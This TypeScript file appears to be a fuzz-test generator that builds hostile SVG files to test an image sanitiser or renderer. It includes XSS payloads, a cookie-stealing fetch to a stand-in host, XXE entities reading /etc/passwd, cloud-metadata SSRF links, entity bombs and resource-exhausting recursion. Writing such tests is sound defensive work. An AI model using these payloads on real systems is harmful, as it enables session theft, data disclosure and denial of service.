import type { Dice, Recipe } from './dice.ts';
import { LOGOS } from './logos.ts';

export const SVG = 'http://www.w3.org/2000/svg';
const SHAPE = '<path id="s" d="M1 1h8v8z"/>';

export function svg(inside: string, attributes = 'viewBox="0 0 10 10"', before = ''): Buffer {
  return Buffer.from(
    `${before}<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${SHAPE}${inside}</svg>`,
  );
}

function escaped(text: string): string {
  return text.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}

function element(name: string, attributes: string, body: string): string {
  return `<${name} ${attributes}>${body}</${name}>`;
}

const CODE = [
  'alert(1)',
  'fetch("//a.example/" + document.cookie)',
  'parent.postMessage(1)',
  '/*]]>*/top.x=1',
];
const HANDLERS =
  `onload onclick onerror onbegin onend onrepeat onmouseover onfocusin onactivate onunload`.split(/\s+/);
const LINKS = [
  'javascript:alert(1)',
  ' java\tscript:alert(1)',
  'java&#115;cript:alert(1)',
  '&#x6a;avascript&colon;alert(1)',
  'JaVaScRiPt:x',
  'data:text/html,<script>1</script>'.replaceAll('<', '&lt;'),
  'data:image/svg+xml;base64,PHN2Zy8+#s',
  'vbscript:x',
  '//a.example/x#s',
  'file:///etc/passwd',
  'http://a.example/#s',
  '#s javascript:',
  '\\\\a.example\\x#s',
  'blob:x#s',
  'http://169.254.169.254/#s',
];
const CARRIERS =
  `a use image feImage script textPath mpath linearGradient pattern filter cursor animate`.split(/\s+/);

/** Wraps markup in random harmless elements. */
function hidden(dice: Dice, markup: string): string {
  const wraps = `g defs symbol a switch text clipPath metadata title desc foreignObject style mask`.split(
    /\s+/,
  );
  const wrap = dice.pick(wraps);
  return dice.roll(2) === 0 ? markup : `<${wrap}>${hidden(dice, markup)}</${wrap}>`;
}

/** How drawings run code, call out, or grow. */
export const HOSTILE_SVGS: Record<string, Recipe> = {
  script: (dice) => {
    const name = dice.pick(['script', dice.inAnyCase('script'), 'svg:script', 'h:script', 'x:script']);
    const spaces = `xmlns:svg="${SVG}" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:x="${dice.pick([SVG, 'urn:x', 'http://www.w3.org/1998/Math/MathML'])}"`;
    const code = dice.pick(CODE);
    const body = dice.pick([
      escaped(code),
      `<![CDATA[${code}]]>`.replace(']]>*/', '*/'),
      '',
      `<!-- ${code} -->`,
    ]);
    return svg(
      hidden(
        dice,
        `<${name} ${spaces} type="${dice.pick(['text/javascript', 'module', 'x'])}" href="${dice.pick(LINKS)}">${body}</${name}>`,
      ),
    );
  },
  handler: (dice) => {
    const handler = dice.pick([
      dice.pick(HANDLERS),
      dice.inAnyCase(dice.pick(HANDLERS)),
      `x:${dice.pick(HANDLERS)}`,
      `${dice.pick(HANDLERS)}.x`,
    ]);
    const attribute = `xmlns:x="${SVG}" ${handler}="${escaped(dice.pick(CODE))}"`;
    return dice.roll(2) === 0
      ? svg('', `viewBox="0 0 10 10" ${attribute}`)
      : svg(hidden(dice, `<${dice.pick(['rect', 'g', 'set', 'style', 'image2'])} ${attribute}/>`));
  },
  link: (dice) => {
    const attributes = `href xlink:href src xml:base action from to values style fill filter`.split(/\s+/);
    return svg(
      hidden(dice, element(dice.pick(CARRIERS), `${dice.pick(attributes)}="${dice.pick(LINKS)}"`, 'x')),
    );
  },
  animation: (dice) => {
    const name = dice.pick(['animate', 'set', 'animateTransform', 'animateMotion', 'discard', 'ANIMATE']);
    const target = dice.pick(['href', 'xlink:href', 'onload', 'd', 'fill']);
    return svg(
      `<a href="#s"><${name} attributeName="${target}" to="${dice.pick(LINKS)}" values="${dice.pick(LINKS)};x" begin="0s" dur="indefinite"/>${SHAPE}</a>`,
    );
  },
  foreign: (dice) => {
    const html = [
      '<iframe src="//a.example"/>',
      '<body onload="x"/>',
      '<script>1</script>',
      '<img src="x" onerror="1"/>',
      '<embed/>',
      '<math><mi>x</mi></math>',
    ];
    const name = dice.pick(['foreignObject', 'foreignobject', 'FOREIGNOBJECT', 'switch']);
    return svg(
      element(
        name,
        'width="9" height="9"',
        `<div xmlns="http://www.w3.org/1999/xhtml">${dice.pick(html)}</div>`,
      ),
    );
  },
  entities: (dice) => {
    const levels = 2 + dice.roll(30);
    const bomb = Array.from(
      { length: levels },
      (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
    ).join('');
    const outside = dice.pick([
      'SYSTEM "file:///etc/passwd"',
      'PUBLIC "x" "http://a.example/"',
      '"<script>1</script>"',
    ]);
    const subset = dice.pick([
      `<!ENTITY e0 "ha">${bomb}`,
      `<!ENTITY e${levels} ${outside}>`,
      `<!ENTITY % p ${outside}>%p;`,
      `<!ATTLIST svg onload CDATA "alert(1)">`,
    ]);
    const doctype = dice.pick([
      '<!DOCTYPE svg [',
      '<!doctype svg [',
      '<!DOCTYPE\nsvg\n[',
      '<!DOCTYPE svg PUBLIC "a" "b" [',
    ]);
    const text = svg(`<text>&e${levels};</text>`, undefined, `${doctype}${subset}]>`);
    return dice.roll(4) === 0
      ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.toString(), 'utf16le')])
      : text;
  },
  recursion: (dice) => {
    const depth = 2 + dice.roll(40);
    const width = 2 + dice.roll(9);
    const loops = [
      '<g id="a"><use href="#a"/></g>',
      '<g id="a"><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>',
      '<pattern id="a" width="1" height="1"><rect fill="url(#a)" width="9" height="9"/></pattern><rect fill="url(#a)" width="9" height="9"/>',
      '<mask id="a"><rect mask="url(#a)" width="9" height="9"/></mask><rect mask="url(\'#a\')" width="9" height="9"/>',
      '<clipPath id="a" clip-path="url(#a)"><rect/></clipPath><g style="clip-path:url(&quot;#a&quot;)"/>',
      '<marker id="a"><path d="M0 0L1 1" marker-start="url(#a)"/></marker>',
      '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect fill="url(#a)"/>',
    ];
    const use = (level: number) =>
      dice.pick([`<use href="#u${level}"/>`, `<rect width="9" height="9" fill="url(#u${level})"/>`]);
    const growth = Array.from(
      { length: depth },
      (_, level) => `<pattern id="u${level}" width="2" height="2">${use(level + 1).repeat(width)}</pattern>`,
    ).join('');
    return svg(dice.pick([...loops, `${growth}<rect width="9" height="9" fill="url(#u0)"/>`]));
  },
  size: (dice) => {
    const number = () =>
      dice.pick([
        '0',
        '-1',
        '1e9',
        '1e308',
        '1e-300',
        'NaN',
        'Infinity',
        '99999999999999999999',
        '100%',
        '1px',
        '50',
        '',
        '1e400',
        '0x10',
        '٣',
      ]);
    return svg(
      '',
      `width="${number()}" height="${number()}" ${dice.roll(2) === 0 ? '' : `viewBox="${number()} ${number()} ${number()} ${number()}"`}`,
    );
  },
  shapes: (dice) => {
    const number = () =>
      dice.pick(['0', '-1', '1e30', '1e308', '1e-300', '9'.repeat(500), '.', '-', '1e', 'NaN']);
    const d = Array.from(
      { length: 1 + dice.roll(400) },
      () => `${dice.pick([...'MmLlHhVvCcSsQqTtAaZz'])}${number()} ${number()}`,
    ).join('');
    return svg(
      `<path stroke="red" stroke-width="${number()}" stroke-dasharray="${number()} ${number()}" d="${d}"/><circle r="${number()}"/><g transform="scale(${number()}) rotate(${number()})">${SHAPE}</g>`,
    );
  },
  nesting: (dice) => {
    const depth = dice.pick([10, 60, 100, 1000, 20_000]);
    const name = dice.pick(['g', 'svg', 'a', 'text', 'switch', 'x', 'g opacity=".9"', 'mask', 'style']);
    return svg(`<${name}>`.repeat(depth) + SHAPE + `</${name.split(' ')[0]}>`.repeat(depth));
  },
  many: (dice) => {
    const count = dice.pick([100, 5000, 20_000]);
    const one = dice.pick([
      '<g/>',
      '<rect width="5" height="5" opacity=".5"/>',
      '<text>W</text>',
      '<style>a{b:c}</style>',
      '<?x y?>',
      '<!-- x -->',
      '<linearGradient id="g"/>',
    ]);
    return svg(
      dice.pick([
        one.repeat(count),
        `<g ${Array.from({ length: count }, (_, index) => `a${index}="1"`).join(' ')}/>`,
        `<path d="M0 0${' 1 2'.repeat(count)}"/>`,
      ]),
    );
  },
  filters: (dice) => {
    const big = dice.pick(['9', '1e9', '1e30', '99999']);
    const parts = [
      `<feGaussianBlur stdDeviation="${big}"/>`,
      `<feTurbulence numOctaves="${big}" baseFrequency="${big}"/>`,
      `<feMorphology operator="dilate" radius="${big}"/>`,
      `<feConvolveMatrix order="${big}" kernelMatrix="1"/>`,
      `<feOffset dx="${big}"/>`,
      `<feDropShadow dx="${big}" stdDeviation="${big}"/>`,
      `<feComponentTransfer><feFuncR type="table" tableValues="${'1 '.repeat(5000)}"/></feComponentTransfer>`,
    ];
    const filter = Array.from({ length: 1 + dice.roll(30) }, () => dice.pick(parts)).join('');
    const depth = 1 + dice.roll(50);
    const filtered = `${'<g filter="url(#f)">'.repeat(depth)}${SHAPE.repeat(1 + dice.roll(40))}${'</g>'.repeat(depth)}`;
    return svg(
      element('filter', `id="f" x="-${big}" y="-1" width="${big}" height="${big}"`, filter) + filtered,
    );
  },
  css: (dice) => {
    const rules = [
      '@import url(//a.example/x.css);',
      '@import "//a.example";',
      '@font-face{font-family:x;src:url(//a.example)}',
      '*{fill:url(//a.example#x)}',
      '*{fill:u\\72l(//a.example)}',
      '*{-moz-binding:url(//a.example)}',
      '*{behavior:url(#x)}',
      '*{width:expression(alert(1))}',
      '*{background:image-set("//a.example" 1x)}',
      '*{fill:var(--x,url(//a.example))}',
      '\\000040import "//a.example";',
      '&lt;/style>&lt;script>alert(1)&lt;/script>',
      '<![CDATA[</style><script>alert(1)</script>]]>',
      '*{cursor:url(//a.example),auto}',
      '@media screen{*{fill:url(//a.example)}}',
      '@namespace url(//a.example);',
      `*{fill:${'('.repeat(5000)}}`,
      `${'*>'.repeat(3000)}*{fill:red}`,
      `a:not(${'b,'.repeat(2000)}c){fill:red}`,
      '/* */'.repeat(3000),
      '<script>alert(1)</script>',
    ];
    const css = Array.from({ length: 1 + dice.roll(4) }, () => dice.pick(rules)).join('');
    return dice.roll(3) === 0
      ? svg(`<g style="${css.replace(/<[^>]*>/g, '').replaceAll('"', '&quot;')}">${SHAPE}</g>`)
      : svg(`<style>${css}</style>`);
  },
  malformed: (dice) => {
    const breaks: ((text: string) => string)[] = [
      (text) => text.slice(0, dice.roll(text.length)),
      (text) => text.replace('<path', '<path <script>'),
      (text) => text.replace('</svg>', '</svg><script>1</script>'),
      (text) => text.replace('<path', '<path id="a" id="b" onload="1"'),
      (text) => text.replace('<path', '<svg/onload=alert(1)><path'),
      (text) => text.replace('<path', '<!--><script>1</script>--><path'),
      (text) => text.replace('<path', '\0<path'),
      (text) => text.replace('<path', '<?xml-stylesheet type="text/xsl" href="//a.example"?><path'),
      (text) =>
        text.replace(
          'xmlns="http://www.w3.org/2000/svg"',
          dice.pick(['xmlns="urn:x"', 'xmlns="http://www.w3.org/1999/xhtml"', '']),
        ),
      (text) =>
        `<?xml version="1.1" encoding="${dice.pick(['UTF-7', 'UTF-16', 'x', 'ISO-2022-JP'])}"?>${text}`,
      (text) => text.replaceAll('"', "'").replace('viewBox', 'viewBox=x y'),
    ];
    return Buffer.from(dice.pick(breaks)(dice.pick(Object.values(LOGOS))));
  },
  image: (dice) =>
    svg(
      `<${dice.pick(['image', 'feImage', 'svg:image', 'IMAGE', 'img', 'video'])} xmlns:svg="${SVG}" width="9" height="9" xlink:href="${dice.pick([...LINKS, 'data:image/png;base64,iVBORw0KGgo='])}"/>`,
    ),
  changed: (dice) => {
    const file = Buffer.from(dice.pick(Object.values(LOGOS)));
    for (let count = 1 + dice.roll(20); count > 0; count -= 1) file[dice.roll(file.length)] = dice.roll(128);
    return file;
  },
  'many filters on the whole picture': (dice) => {
    const filter =
      '<filter id="f" x="0" y="0" width="1" height="1"><feGaussianBlur stdDeviation="0.03"/></filter>';
    const rect = '<rect width="10" height="10" fill="#c33" filter="url(#f)"/>';
    return svg(filter + rect.repeat(80 + dice.roll(120)));
  },
  'patterns for all shapes of groups': (dice) => {
    const shapes = '<rect width="1" height="1"/>'.repeat(20 + dice.roll(80));
    const groups = Array.from(
      { length: 2 + dice.roll(8) },
      (_, number) =>
        `<g ${dice.pick(['fill', 'stroke'])}="url(#p${number + 1})"><pattern id="p${number}" width="1" height="1">${shapes}</pattern></g>`,
    );
    return svg(`${groups.join('')}<g fill="url(#p0)" stroke="url(#p0)">${shapes.repeat(5)}</g>`);
  },
};
